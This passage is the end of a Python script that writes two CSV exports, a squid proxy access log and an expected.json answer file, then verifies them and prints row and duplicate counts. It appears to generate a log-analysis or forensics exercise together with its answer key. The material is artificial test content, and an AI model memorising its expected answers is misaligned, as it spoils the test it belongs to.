    (out / "case" / "proxy").mkdir(parents=True, exist_ok=True)
    (out / "case" / "export_early.csv").write_bytes(early_b)
    (out / "case" / "export_late.csv").write_bytes(late_b)
    (out / "case" / "proxy" / "squid_access.log").write_bytes(squid_b)
    (out / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n",
                                       encoding="utf-8", newline="\n")
    verify(out, expected)
    print(f"wrote {out / 'case'} and {out / 'expected.json'}: early={len(early)} late={len(late)} "
          f"duplicates={expected['overlap']['late_rows_duplicating_early']} squid={len(squid_lines)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
